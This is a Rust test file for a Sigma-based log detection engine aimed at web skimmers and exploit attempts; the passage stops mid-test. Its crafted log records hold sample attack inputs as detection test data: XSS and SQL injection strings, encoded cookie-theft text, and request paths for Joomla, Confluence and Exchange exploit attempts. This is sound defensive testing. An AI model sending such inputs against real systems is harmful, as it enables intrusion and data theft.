//! Engine tests: Sigma semantics on crafted records, SigmaHQ rules, error
//! positions, prefilter soundness, the skimhunt block and linting.

use std::borrow::Cow;
use std::path::Path;
#[cfg(feature = "shared-corpora")]
use std::path::PathBuf;

use super::eval::{self, Hooks};
use super::*;
use crate::card::{Brand, PanHit};
use crate::decode::{Decoded, Layer};

/// A stand-in URL/plus/HTML decoder so decoding logic is tested without
/// depending on the decoder module's implementation.
fn fake_decode(s: &str, o: DecodeOpts) -> Cow<'_, str> {
    let mut out = s.to_string();
    if o.url {
        let b = out.as_bytes();
        let mut v = Vec::with_capacity(b.len());
        let mut i = 0;
        while i < b.len() {
            let hex = |c: u8| (c as char).to_digit(16);
            match (
                b[i],
                b.get(i + 1).and_then(|c| hex(*c)),
                b.get(i + 2).and_then(|c| hex(*c)),
            ) {
                (b'%', Some(h), Some(l)) => {
                    v.push((h * 16 + l) as u8);
                    i += 3;
                }
                (b'+', _, _) if o.plus => {
                    v.push(b' ');
                    i += 1;
                }
                (c, _, _) => {
                    v.push(c);
                    i += 1;
                }
            }
        }
        out = String::from_utf8_lossy(&v).into_owned();
    }
    if o.html {
        out = out.replace("&lt;", "<").replace("&gt;", ">");
    }
    if out == s {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(out)
    }
}

/// A stand-in card finder: 16-digit runs passing Luhn.
fn fake_pans(b: &[u8]) -> Vec<PanHit> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let start = i;
        while i < b.len() && b[i].is_ascii_digit() {
            i += 1;
        }
        if i - start == 16 {
            let digits: Vec<u32> = b[start..i].iter().map(|c| u32::from(c - b'0')).collect();
            let sum: u32 = digits
                .iter()
                .rev()
                .enumerate()
                .map(|(k, d)| {
                    if k % 2 == 1 {
                        (d * 2) % 9 + if d * 2 == 18 { 9 } else { 0 }
                    } else {
                        *d
                    }
                })
                .sum();
            if sum.is_multiple_of(10) {
                out.push(PanHit {
                    start,
                    end: i,
                    digits: String::from_utf8_lossy(&b[start..i]).into_owned(),
                    brand: Brand::Visa,
                    test_card: true,
                });
            }
        }
        i += 1;
    }
    out
}

/// The stand-in decoder as the engine sees it: one variant, named by the
/// layers the options enable.
fn fake_variants(s: &str, o: DecodeOpts) -> Vec<Decoded> {
    match fake_decode(s, o) {
        Cow::Borrowed(_) => Vec::new(),
        Cow::Owned(text) => {
            let layers = [
                (o.url, Layer::Url),
                (o.plus, Layer::Plus),
                (o.html, Layer::Html),
            ]
            .into_iter()
            .filter_map(|(on, l)| on.then_some(l))
            .collect();
            vec![Decoded { text, layers }]
        }
    }
}

const FAKE: Hooks = Hooks {
    decode: fake_variants,
    pans: fake_pans,
};

fn web<'a>(raw: &'a str, fields: &[(&str, &str)]) -> Record<'a> {
    Record {
        raw: raw.as_bytes(),
        time: None,
        family: Family::Web,
        fields: fields
            .iter()
            .map(|(k, v)| (k.to_string().into(), v.to_string().into()))
            .collect(),
    }
}

/// A combined-log-like record whose raw line contains every field value.
fn req<'a>(
    method: &str,
    stem: &str,
    query: &str,
    status: &str,
    ua: &str,
    raw: &'a mut String,
) -> Record<'a> {
    *raw = format!(
        "1.2.3.4 - - [27/Sep/2017:10:00:00 +0000] \"{method} {stem}?{query} HTTP/1.1\" {status} 5 \"-\" \"{ua}\""
    );
    let mut r = web(
        raw,
        &[
            ("c-ip", "1.2.3.4"),
            ("cs-method", method),
            ("cs-uri-stem", stem),
            ("cs-uri-query", query),
            ("sc-status", status),
            ("cs-user-agent", ua),
        ],
    );
    r.fields
        .push(("cs-uri".into(), format!("{stem}?{query}").into()));
    r
}

fn load(src: &str) -> Rule {
    let mut rules = load_str(src, "test.yml").unwrap_or_else(|e| panic!("load failed: {e}"));
    assert_eq!(rules.len(), 1);
    rules.remove(0)
}

/// Evaluates with the fake hooks and checks the prefilter contract on
/// every match.
fn ev(rule: &Rule, rec: &Record) -> Option<Hit> {
    let hit = eval::eval(&rule.detection, rec, rule.decode, FAKE);
    if hit.is_some() {
        assert_sound(rule, rec);
    }
    hit
}

fn assert_sound(rule: &Rule, rec: &Record) {
    if let Some(lits) = rule.literals() {
        let lower = rec.raw.to_ascii_lowercase();
        let ok = lits
            .iter()
            .any(|l| !l.is_empty() && lower.windows(l.len()).any(|w| w == l.as_slice()));
        assert!(
            ok,
            "prefilter unsound for rule {}: literals {:?} not in {:?}",
            rule.id,
            lits.iter()
                .map(|l| String::from_utf8_lossy(l))
                .collect::<Vec<_>>(),
            String::from_utf8_lossy(rec.raw)
        );
    }
}

fn rule_with(detection: &str) -> Rule {
    load(&format!(
        "title: T\nid: t\nlogsource:\n    category: webserver\ndetection:\n{detection}"
    ))
}

#[test]
fn field_specific_vs_keyword() {
    let r = rule_with("    sel:\n        cs-uri-query|contains: 'skimmer'\n    condition: sel\n");
    let mut raw = String::new();
    assert!(ev(&r, &req("GET", "/a", "x=skimmer", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    // The word is in the user agent, not the query: field match fails.
    assert!(ev(&r, &req("GET", "/a", "x=1", "200", "skimmer-bot", &mut raw)).is_none());

    let k = rule_with("    kw:\n        - 'skimmer'\n        - 'evil.js'\n    condition: kw\n");
    let mut raw = String::new();
    let rec = req("GET", "/a", "x=1", "200", "SKIMMER-bot", &mut raw);
    let hit = ev(&k, &rec).expect("keyword matches anywhere");
    assert_eq!(hit.field, None);
    let off = hit.offset.expect("offset on raw match");
    assert_eq!(&raw[off..off + 7], "SKIMMER");
    // A keyword found only in a field value (not in raw) still matches.
    let rec = web(
        "plain line",
        &[("csp-report.blocked-uri", "https://x/evil.js")],
    );
    let hit = eval::eval(&k.detection, &rec, k.decode, FAKE).expect("field keyword");
    assert_eq!(hit.field.as_deref(), Some("csp-report.blocked-uri"));
    // Field-less key with modifiers.
    let f = rule_with("    kw:\n        '|re': 'evil\\.(js|php)'\n    condition: kw\n");
    assert!(ev(&f, &web("GET /evil.php", &[])).is_some());
    assert!(ev(&f, &web("GET /evilxjs", &[])).is_none());
}

#[test]
fn not_filters_and_of_patterns() {
    let r = rule_with(
        "    sel_a:\n        cs-method: GET\n    sel_b:\n        cs-uri-stem|endswith: '.php'\n    filter_x:\n        sc-status: 404\n    filter_y:\n        cs-user-agent|startswith: 'Health'\n    condition: 1 of sel_* and not 1 of filter_*\n",
    );
    let mut raw = String::new();
    assert!(ev(&r, &req("POST", "/x.php", "", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&r, &req("GET", "/x", "", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&r, &req("POST", "/x", "", "200", "UA", &mut raw)).is_none());
    let mut raw = String::new();
    assert!(ev(&r, &req("GET", "/x.php", "", "404", "UA", &mut raw)).is_none());
    let mut raw = String::new();
    assert!(
        ev(
            &r,
            &req("GET", "/x.php", "", "200", "HealthCheck", &mut raw)
        )
        .is_none()
    );

    let all = rule_with(
        "    sel_a:\n        cs-method: GET\n    sel_b:\n        cs-uri-stem|endswith: '.php'\n    condition: all of sel_*\n",
    );
    let mut raw = String::new();
    assert!(ev(&all, &req("GET", "/x.php", "", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&all, &req("GET", "/x.asp", "", "200", "UA", &mut raw)).is_none());

    let them = rule_with(
        "    a:\n        cs-method: GET\n    b:\n        sc-status: 200\n    condition: all of them\n",
    );
    let mut raw = String::new();
    assert!(ev(&them, &req("GET", "/", "", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&them, &req("GET", "/", "", "500", "UA", &mut raw)).is_none());
    let any = rule_with(
        "    a:\n        cs-method: PUT\n    b:\n        sc-status: 200\n    condition: any of them\n",
    );
    let mut raw = String::new();
    assert!(ev(&any, &req("GET", "/", "", "200", "UA", &mut raw)).is_some());

    // A list of maps is an OR of maps; a condition list is an OR too.
    let lm = rule_with(
        "    sel:\n        - cs-method: PUT\n        - cs-method: GET\n          sc-status: 201\n    other:\n        cs-uri-stem: /z\n    condition:\n        - sel\n        - other\n",
    );
    let mut raw = String::new();
    assert!(ev(&lm, &req("GET", "/", "", "201", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&lm, &req("GET", "/", "", "200", "UA", &mut raw)).is_none());
    let mut raw = String::new();
    assert!(ev(&lm, &req("GET", "/z", "", "200", "UA", &mut raw)).is_some());
}

#[test]
fn contains_all_and_value_lists() {
    let r = rule_with(
        "    sel:\n        cs-uri-query|contains|all:\n            - 'card'\n            - 'cvv'\n    condition: sel\n",
    );
    let mut raw = String::new();
    assert!(ev(&r, &req("GET", "/", "card=1&CVV=2", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&r, &req("GET", "/", "card=1", "200", "UA", &mut raw)).is_none());
    let or = rule_with(
        "    sel:\n        cs-uri-query|contains:\n            - 'card'\n            - 'cvv'\n    condition: sel\n",
    );
    let mut raw = String::new();
    assert!(ev(&or, &req("GET", "/", "cvv=2", "200", "UA", &mut raw)).is_some());
    // Keywords with |all via a field-less key.
    let kw = rule_with(
        "    kw:\n        '|all':\n            - 'card'\n            - 'exfil'\n    condition: kw\n",
    );
    assert!(ev(&kw, &web("GET /exfil?card=1", &[])).is_some());
    assert!(ev(&kw, &web("GET /exfil", &[])).is_none());
}

#[test]
fn wildcards_and_case() {
    let r = rule_with("    sel:\n        cs-uri-stem: '/checkout/*.js'\n    condition: sel\n");
    let mut raw = String::new();
    assert!(
        ev(
            &r,
            &req("GET", "/Checkout/app.JS", "", "200", "UA", &mut raw)
        )
        .is_some()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &r,
            &req("GET", "/checkout/app.json", "", "200", "UA", &mut raw)
        )
        .is_none()
    );
    let q = rule_with("    sel:\n        cs-uri-stem: '/a?c'\n    condition: sel\n");
    let mut raw = String::new();
    assert!(ev(&q, &req("GET", "/abc", "", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&q, &req("GET", "/abbc", "", "200", "UA", &mut raw)).is_none());
    // Escaped wildcard is literal.
    let e = rule_with("    sel:\n        cs-uri-query|contains: 'a\\*b'\n    condition: sel\n");
    let mut raw = String::new();
    assert!(ev(&e, &req("GET", "/", "x=a*b", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&e, &req("GET", "/", "x=axxb", "200", "UA", &mut raw)).is_none());
    // cased
    let c = rule_with(
        "    sel:\n        cs-uri-query|contains|cased: 'MagentoSkim'\n    condition: sel\n",
    );
    let mut raw = String::new();
    assert!(ev(&c, &req("GET", "/", "MagentoSkim=1", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(ev(&c, &req("GET", "/", "magentoskim=1", "200", "UA", &mut raw)).is_none());
    // Numbers and booleans compare as their text.
    let n = rule_with("    sel:\n        sc-status: 200\n    condition: sel\n");
    let mut raw = String::new();
    assert!(ev(&n, &req("GET", "/", "", "200", "UA", &mut raw)).is_some());
}

#[test]
fn regex_with_flags() {
    let r = rule_with("    sel:\n        cs-uri-query|re: 'card=\\d{4}'\n    condition: sel\n");
    let mut raw = String::new();
    assert!(ev(&r, &req("GET", "/", "card=1234", "200", "UA", &mut raw)).is_some());
    let mut raw = String::new();
    assert!(
        ev(&r, &req("GET", "/", "CARD=1234", "200", "UA", &mut raw)).is_none(),
        "re is cased"
    );
    let i = rule_with("    sel:\n        cs-uri-query|re|i: 'card=\\d{4}'\n    condition: sel\n");
    let mut raw = String::new();
    assert!(ev(&i, &req("GET", "/", "CARD=1234", "200", "UA", &mut raw)).is_some());
    let s = rule_with("    sel:\n        x|re|s: 'a.b'\n    condition: sel\n");
    assert!(ev(&s, &web("a\nb", &[("x", "a\nb")])).is_some());
    let nos = rule_with("    sel:\n        x|re: 'a.b'\n    condition: sel\n");
    assert!(ev(&nos, &web("a\nb", &[("x", "a\nb")])).is_none());
    let m = rule_with("    sel:\n        x|re|m: '^b$'\n    condition: sel\n");
    assert!(ev(&m, &web("a\nb", &[("x", "a\nb")])).is_some());
    assert!(
        ev(&nos, &web("a\nb", &[("y", "a\nb")])).is_none(),
        "missing field"
    );
}

#[test]
fn exists_null_and_numbers() {
    let ex = rule_with("    sel:\n        cs-referer|exists: true\n    condition: sel\n");
    let nx = rule_with("    sel:\n        cs-referer|exists: false\n    condition: sel\n");
    let with = web("r", &[("cs-referer", "https://shop/")]);
    let without = web("r", &[("cs-method", "GET")]);
    assert!(ev(&ex, &with).is_some() && ev(&ex, &without).is_none());
    assert!(ev(&nx, &with).is_none() && ev(&nx, &without).is_some());

    let null = rule_with("    sel:\n        cs-referer: null\n    condition: sel\n");
    assert!(ev(&null, &without).is_some(), "absent is null");
    assert!(
        ev(&null, &web("r", &[("cs-referer", "")])).is_some(),
        "empty is null"
    );
    assert!(ev(&null, &with).is_none());
    let either = rule_with(
        "    sel:\n        cs-referer:\n            - null\n            - '-'\n    condition: sel\n",
    );
    assert!(ev(&either, &web("r", &[("cs-referer", "-")])).is_some());
    assert!(ev(&either, &with).is_none());

    let gt = rule_with("    sel:\n        sc-bytes|gt: 100000\n    condition: sel\n");
    assert!(ev(&gt, &web("r", &[("sc-bytes", "250000")])).is_some());
    assert!(ev(&gt, &web("r", &[("sc-bytes", "99")])).is_none());
    assert!(ev(&gt, &web("r", &[("sc-bytes", "-")])).is_none());
    assert!(ev(&gt, &web("r", &[])).is_none());
    let lte = rule_with(
        "    sel:\n        sc-status|lte: 299\n    sel2:\n        sc-status|gte: 200\n    condition: sel and sel2\n",
    );
    assert!(ev(&lte, &web("r", &[("sc-status", "204")])).is_some());
    assert!(ev(&lte, &web("r", &[("sc-status", "302")])).is_none());
    let lt = rule_with("    sel:\n        x|lt: 1.5\n    condition: sel\n");
    assert!(ev(&lt, &web("r", &[("x", "1.25")])).is_some());

    let cidr = rule_with("    sel:\n        c-ip|cidr: '10.0.0.0/8'\n    condition: sel\n");
    assert!(ev(&cidr, &web("r", &[("c-ip", "10.9.8.7")])).is_some());
    assert!(ev(&cidr, &web("r", &[("c-ip", "11.0.0.1")])).is_none());
}

#[test]
fn base64offset_contains() {
    let r = rule_with(
        "    sel:\n        cs-uri-query|base64offset|contains: 'document.cookie'\n    condition: sel\n",
    );
    for prefix in ["", "a", "ab", "abc"] {
        let payload = super::modifiers::base64(format!("{prefix}x=document.cookie;y").as_bytes());
        let mut raw = String::new();
        let rec = req("GET", "/", &format!("p={payload}"), "200", "UA", &mut raw);
        assert!(ev(&r, &rec).is_some(), "prefix {prefix:?}");
    }
    let other = super::modifiers::base64(b"x=document.title");
    let mut raw = String::new();
    assert!(
        ev(
            &r,
            &req("GET", "/", &format!("p={other}"), "200", "UA", &mut raw)
        )
        .is_none()
    );
}

#[test]
fn pan_modifier_and_witness() {
    let r = load(
        "title: PAN in query\nid: pan-q\nlogsource:\n    category: webserver\ndetection:\n    page:\n        cs-uri-stem|contains: '/collect'\n    card:\n        cs-uri-query|pan: true\n    condition: page and card\nskimhunt:\n    category: card-exposure\n",
    );
    assert_eq!(r.category, Category::CardExposure);
    let mut raw = String::new();
    let rec = req(
        "GET",
        "/collect",
        "n=4111111111111111&e=12",
        "200",
        "UA",
        &mut raw,
    );
    let hit = ev(&r, &rec).expect("PAN found");
    // The witness carrying the card is preferred over the page match.
    assert_eq!(hit.field.as_deref(), Some("cs-uri-query"));
    let pan = hit.pan.expect("pan witness");
    assert_eq!((pan.start, pan.end), (2, 18));
    let mut raw = String::new();
    let bad = req(
        "GET",
        "/collect",
        "n=4111111111111112",
        "200",
        "UA",
        &mut raw,
    );
    assert!(ev(&r, &bad).is_none(), "Luhn failure is not a PAN");
    let kw = rule_with("    kw:\n        '|pan': true\n    condition: kw\n");
    let rec = web("x 4111111111111111 y", &[]);
    let hit = ev(&kw, &rec).expect("keyword pan");
    assert_eq!(hit.offset, Some(2));
    assert!(kw.literals().is_none());
    assert!(
        load_str(
            "title: t\ndetection:\n    s:\n        x|pan: false\n    condition: s\n",
            "p.yml"
        )
        .is_err()
    );
}

#[test]
fn decoding_compares_both_forms() {
    let r = load(
        "title: Script tag\nid: dec\nlogsource:\n    category: webserver\ndetection:\n    sel:\n        cs-uri-query|contains: '<script src='\n    condition: sel\nskimhunt:\n    decode: [url, plus]\n",
    );
    assert!(r.decode.url && r.decode.plus && !r.decode.html);
    let mut raw = String::new();
    let rec = req("GET", "/", "q=%3Cscript+src%3D", "200", "UA", &mut raw);
    let hit = ev(&r, &rec).expect("decoded match");
    assert_eq!(hit.decoded, ["url", "plus"]);
    assert_eq!(hit.value.as_deref(), Some("q=<script src="));
    let rec = web(
        "plain <script src=x>",
        &[("cs-uri-query", "<script src=x>")],
    );
    let hit = ev(&r, &rec).expect("original match");
    assert!(hit.decoded.is_empty());
    // Without decode the encoded form does not match.
    let plain =
        rule_with("    sel:\n        cs-uri-query|contains: '<script src='\n    condition: sel\n");
    let mut raw = String::new();
    assert!(
        ev(
            &plain,
            &req("GET", "/", "q=%3Cscript+src%3D", "200", "UA", &mut raw)
        )
        .is_none()
    );
    // Keywords also decode the raw line.
    let kw = load(
        "title: k\nid: k\ndetection:\n    kw:\n        - '<iframe'\n    condition: kw\nskimhunt:\n    decode: html\n",
    );
    let hit = ev(&kw, &web("x=&lt;iframe src", &[])).expect("html-decoded raw");
    assert!(hit.decoded == ["html"] && hit.offset.is_none());
}

/// ../shared/sigma-webserver: the tests that read it form the
/// `shared-corpora` group that `.ci/run` runs (a fresh clone has no ../shared).
#[cfg(feature = "shared-corpora")]
fn shared_dir() -> Option<PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/sigma-webserver");
    assert!(dir.is_dir(), "{} is missing", dir.display());
    Some(dir)
}

#[cfg(feature = "shared-corpora")]
fn sigma_rule(rules: &[Rule], file: &str) -> Rule {
    rules
        .iter()
        .find(|r| r.source.ends_with(file))
        .unwrap_or_else(|| panic!("{file} not loaded"))
        .clone()
}

#[cfg(feature = "shared-corpora")]
#[test]
fn shared_sigmahq_webserver_rules_load() {
    let Some(dir) = shared_dir() else {
        eprintln!("NOTICE: ../shared/sigma-webserver not found; skipping SigmaHQ load test");
        return;
    };
    let rules = load_path(&dir).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(rules.len(), 86);
    check_unique_ids(&rules).unwrap();
    for r in &rules {
        assert!(r.applies_to(Family::Web), "{}", r.id);
        assert!(!r.applies_to(Family::Csp), "{}", r.id);
        assert!(!r.id_missing && !r.level_missing, "{}", r.id);
        if let Some(l) = r.literals() {
            assert!(l.iter().all(|x| x.len() >= 3));
        }
        // Any junk line evaluates without panicking.
        let _ = r.eval(&web("\u{0}\u{ff}garbage \"GET", &[("cs-method", "GET")]));
    }
    let without: Vec<&str> = rules
        .iter()
        .filter(|r| r.literals().is_none())
        .map(|r| r.id.as_str())
        .collect();
    eprintln!(
        "{} of 86 rules have no prefilter literals: {without:?}",
        without.len()
    );
    // Sorted, deterministic order.
    let sources: Vec<PathBuf> = rules.iter().map(|r| PathBuf::from(&r.source)).collect();
    assert!(
        sources.windows(2).all(|w| w[0] <= w[1]),
        "not in path order"
    );
}

#[cfg(feature = "shared-corpora")]
#[test]
fn shared_sigmahq_rules_semantics() {
    let Some(dir) = shared_dir() else {
        eprintln!("NOTICE: ../shared/sigma-webserver not found; skipping SigmaHQ semantics test");
        return;
    };
    let rules = load_path(&dir).unwrap_or_else(|e| panic!("{e}"));

    // Keywords, a method selection and `not filter`.
    let xss = sigma_rule(&rules, "web_xss_in_access_logs.yml");
    assert_eq!(xss.level, Level::High);
    let mut raw = String::new();
    assert!(
        ev(
            &xss,
            &req(
                "GET",
                "/search",
                "q=<script>alert(1)</script>",
                "200",
                "UA",
                &mut raw
            )
        )
        .is_some()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &xss,
            &req("GET", "/search", "q=%3Csvg onload=x", "200", "UA", &mut raw)
        )
        .is_some()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &xss,
            &req("GET", "/search", "q=<script>", "404", "UA", &mut raw)
        )
        .is_none(),
        "404 filtered"
    );
    let mut raw = String::new();
    assert!(
        ev(
            &xss,
            &req("POST", "/search", "q=<script>", "200", "UA", &mut raw)
        )
        .is_none()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &xss,
            &req("GET", "/search", "q=shoes", "200", "UA", &mut raw)
        )
        .is_none()
    );

    // contains|all.
    let joomla = sigma_rule(&rules, "web_cve_2023_23752_joomla_exploit_attempt.yml");
    let mut raw = String::new();
    assert!(
        ev(
            &joomla,
            &req(
                "GET",
                "/",
                "/api/index.php/v1/config/application&public=true",
                "200",
                "UA",
                &mut raw
            )
        )
        .is_some()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &joomla,
            &req(
                "GET",
                "/",
                "/api/index.php/v1/config/application",
                "200",
                "UA",
                &mut raw
            )
        )
        .is_none()
    );

    // all of selection_* with an integer status list.
    let conf = sigma_rule(
        &rules,
        "web_exploit_cve_2023_22518_confluence_auth_bypass.yml",
    );
    let mut raw = String::new();
    assert!(
        ev(
            &conf,
            &req(
                "POST",
                "/",
                "/json/setup-restore.action",
                "302",
                "UA",
                &mut raw
            )
        )
        .is_some()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &conf,
            &req(
                "POST",
                "/",
                "/json/setup-restore.action",
                "500",
                "UA",
                &mut raw
            )
        )
        .is_none()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &conf,
            &req(
                "GET",
                "/",
                "/json/setup-restore.action",
                "200",
                "UA",
                &mut raw
            )
        )
        .is_none()
    );

    // not 1 of filter_main_*.
    let owa = sigma_rule(
        &rules,
        "web_cve_2022_36804_exchange_owassrf_exploitation.yml",
    );
    let mut raw = String::new();
    assert!(
        ev(
            &owa,
            &req(
                "POST",
                "/",
                "/owa/x@y/powershell",
                "200",
                "Mozilla",
                &mut raw
            )
        )
        .is_some()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &owa,
            &req(
                "POST",
                "/",
                "/owa/x@y/powershell",
                "200",
                "ClientInfo",
                &mut raw
            )
        )
        .is_none()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &owa,
            &req(
                "POST",
                "/",
                "/owa/xy/powershell",
                "200",
                "Mozilla",
                &mut raw
            )
        )
        .is_none()
    );

    // Keywords mixed with a field selection and a 404 filter.
    let sqli = sigma_rule(&rules, "web_sql_injection_in_access_logs.yml");
    let mut raw = String::new();
    assert!(
        ev(
            &sqli,
            &req(
                "GET",
                "/p",
                "id=1%20UNION%20SELECT%20pass",
                "200",
                "UA",
                &mut raw
            )
        )
        .is_some()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &sqli,
            &req("GET", "/p", "id=1+union+select+pass", "200", "UA", &mut raw)
        )
        .is_none()
    );
    let mut raw = String::new();
    assert!(
        ev(
            &sqli,
            &req(
                "GET",
                "/p",
                "id=1%20UNION%20SELECT%20pass",
                "404",
                "UA",
                &mut raw
            )
        )
        .is_none()
    );

    // `re` on a field: a long Host header.
    let citrix = sigma_rule(
        &rules,
        "web_exploit_cve_2023_4966_citrix_sensitive_information_disclosure_exploit_attempt.yml",
    );
    let long_host = "a".repeat(160);
    let raw = format!("GET /oauth/idp/.well-known/openid-configuration Host: {long_host}");
    let fields = [
        ("cs-method", "GET"),
        ("cs-uri-stem", "/oauth/idp/.well-known/openid-configuration"),
        ("cs-host", long_host.as_str()),
    ];
    assert!(ev(&citrix, &web(&raw, &fields)).is_some());
    let short = [fields[0], fields[1], ("cs-host", "shop.example")];
    assert!(ev(&citrix, &web(&raw, &short)).is_none());
}

fn bad(file: &str) -> RuleError {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/rules-bad")
        .join(file);
    match load_path(&path) {
        Ok(_) => panic!("{file} loaded"),
        Err(e) => e,
    }
}

#[test]
fn errors_point_at_line_and_column() {
    let e = bad("bad_yaml.yml");
    assert!(e.reason.contains("YAML"), "{e}");
    assert!(e.line >= 5 && e.path.ends_with("bad_yaml.yml"), "{e}");
    let e = bad("unknown_modifier.yml");
    assert_eq!((e.line, e.column), (8, 9), "{e}");
    assert!(e.reason.contains("contians"), "{e}");
    assert!(
        e.to_string()
            .contains("unknown_modifier.yml:8:9: unknown modifier"),
        "{e}"
    );
    let e = bad("invalid_regex.yml");
    assert_eq!((e.line, e.column), (5, 26), "{e}");
    assert!(e.reason.contains("invalid regex"), "{e}");
    let e = bad("huge_regex.yml");
    assert_eq!((e.line, e.column), (5, 26), "{e}");
    assert!(e.reason.contains("regex too large"), "{e}");
    let e = bad("missing_selection.yml");
    assert_eq!((e.line, e.column), (8, 34), "{e}");
    assert!(e.reason.contains("filtr"), "{e}");
    let e = bad("bad_skimhunt_key.yml");
    assert_eq!((e.line, e.column), (9, 5), "{e}");
    assert!(e.reason.contains("decoed"), "{e}");
    let e = bad("bad_skimhunt_category.yml");
    assert_eq!((e.line, e.column), (8, 15), "{e}");
    let e = bad("bad_decode.yml");
    assert_eq!((e.line, e.column), (8, 19), "{e}");
    let e = bad("second_doc_bad.yml");
    assert_eq!((e.line, e.column), (13, 21), "{e}");
}

#[test]
fn structural_errors() {
    let cases = [
        (
            "id: x\ndetection:\n    s:\n        a: b\n    condition: s\n",
            "no title",
        ),
        ("title: t\n", "no detection"),
        (
            "title: t\ndetection:\n    s:\n        a: b\n",
            "no condition",
        ),
        (
            "title: t\ndetection:\n    s: []\n    condition: s\n",
            "empty selection",
        ),
        (
            "title: t\ndetection:\n    s:\n        a:\n            b: c\n    condition: s\n",
            "mapping",
        ),
        (
            "title: t\nlevel: severe\ndetection:\n    s:\n        a: b\n    condition: s\n",
            "unknown level",
        ),
        (
            "title: t\ndetection:\n    s:\n        a|gt: many\n    condition: s\n",
            "not a number",
        ),
        (
            "title: t\ndetection:\n    s:\n        a|exists: maybe\n    condition: s\n",
            "exists",
        ),
        (
            "title: t\ndetection:\n    s:\n        a: 1\n        a: 2\n    condition: s\n",
            "duplicate key",
        ),
        ("- a\n- b\n", "mapping"),
        (
            "title: t\ndetection:\n    s:\n        a: b\n    condition: s\nskimhunt:\n    tests:\n        matches: [x]\n",
            "unknown key",
        ),
    ];
    for (src, want) in cases {
        let e = load_str(src, "s.yml")
            .err()
            .unwrap_or_else(|| panic!("accepted: {src}"));
        assert!(e.reason.contains(want), "{want}: got {e}");
        assert!(e.line >= 1 && e.column >= 1, "{e}");
    }
}

#[test]
fn hostile_input_never_panics() {
    let mut seed: u64 = 0x9E37_79B9_7F4A_7C15;
    let alphabet = b"ab:|-*?\\'\" \n\t[]{}&!%#@0123456789";
    for _ in 0..300 {
        let mut s = Vec::new();
        for _ in 0..(seed % 200) {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            s.push(alphabet[(seed % alphabet.len() as u64) as usize]);
        }
        let text = String::from_utf8_lossy(&s);
        let _ = load_str(&text, "fuzz.yml");
        let with_det = format!(
            "title: t\ndetection:\n    s:\n        - '{}'\n    condition: s\n",
            text.replace('\'', "")
        );
        if let Ok(rules) = load_str(&with_det, "fuzz.yml") {
            for r in rules {
                let _ = r.literals();
                let _ = r.eval(&web(&text, &[("a", &text)]));
            }
        }
    }
    // Invalid UTF-8 in a raw line: no offsets, no panic.
    let k = rule_with("    kw:\n        - 'evil'\n    condition: kw\n");
    let rec = Record::bare(b"\xff\xfe evil \xc3", None, Family::Web);
    let hit = ev(&k, &rec).expect("lossy match");
    assert_eq!(hit.offset, None);
}

#[test]
fn applies_to_by_category() {
    let mk = |cat: &str| {
        load(&format!(
            "title: t\nid: t\n{cat}detection:\n    s:\n        - x\n    condition: s\n"
        ))
    };
    let none = mk("");
    assert!(
        [
            Family::Web,
            Family::Chat,
            Family::Csp,
            Family::Json,
            Family::Plain
        ]
        .iter()
        .all(|f| none.applies_to(*f))
    );
    let chat = mk("logsource:\n    category: chat\n");
    assert!(
        chat.applies_to(Family::Chat)
            && chat.applies_to(Family::Json)
            && !chat.applies_to(Family::Web)
    );
    let csp = mk("logsource:\n    category: csp\n");
    assert!(csp.applies_to(Family::Csp) && !csp.applies_to(Family::Json));
    let proc = mk("logsource:\n    category: process_creation\n    product: windows\n");
    assert!(!proc.applies_to(Family::Web) && !proc.applies_to(Family::Plain));
    assert_eq!(proc.logsource.product.as_deref(), Some("windows"));
}

/// A tiny parser for rule samples: the path after the method.
fn parse<'a>(line: &'a [u8], fmt: Option<&str>) -> Record<'a> {
    assert_eq!(fmt, Some("combined"));
    let text = String::from_utf8_lossy(line).into_owned();
    let stem = text.split(' ').nth(1).unwrap_or("").to_string();
    let mut rec = Record::bare(line, None, Family::Web);
    rec.fields.push(("cs-uri-stem".into(), stem.into()));
    rec
}

fn parse_as_chat<'a>(line: &'a [u8], fmt: Option<&str>) -> Record<'a> {
    let mut rec = parse(line, fmt);
    rec.family = Family::Chat;
    rec
}

#[test]
fn skimhunt_block_and_run_tests() {
    let src = r#"
title: Skimmer loader
id: sk-1
level: critical
references: [https://example.test/advisory]
logsource:
    category: webserver
detection:
    sel:
        cs-uri-stem|endswith: '/skim.js'
    condition: sel
skimhunt:
    category: injected-script
    tests:
        format: combined
        match:
            - 'GET /static/skim.js'
        nomatch:
            - 'GET /static/app.js'
            - 'GET /static/skim.json'
"#;
    let r = load(src);
    assert_eq!(r.category, Category::InjectedScript);
    assert_eq!(r.level, Level::Critical);
    assert_eq!(r.tests.format.as_deref(), Some("combined"));
    assert_eq!((r.tests.matches.len(), r.tests.nomatches.len()), (1, 2));
    assert!(r.run_tests(parse).is_empty());
    assert!(lint(std::slice::from_ref(&r)).is_empty());

    // A rule whose samples disagree reports each failure.
    let wrong = load(&src.replace(
        "match:\n            - 'GET /static/skim.js'",
        "match:\n            - 'GET /static/other.js'",
    ));
    let fails = wrong.run_tests(parse);
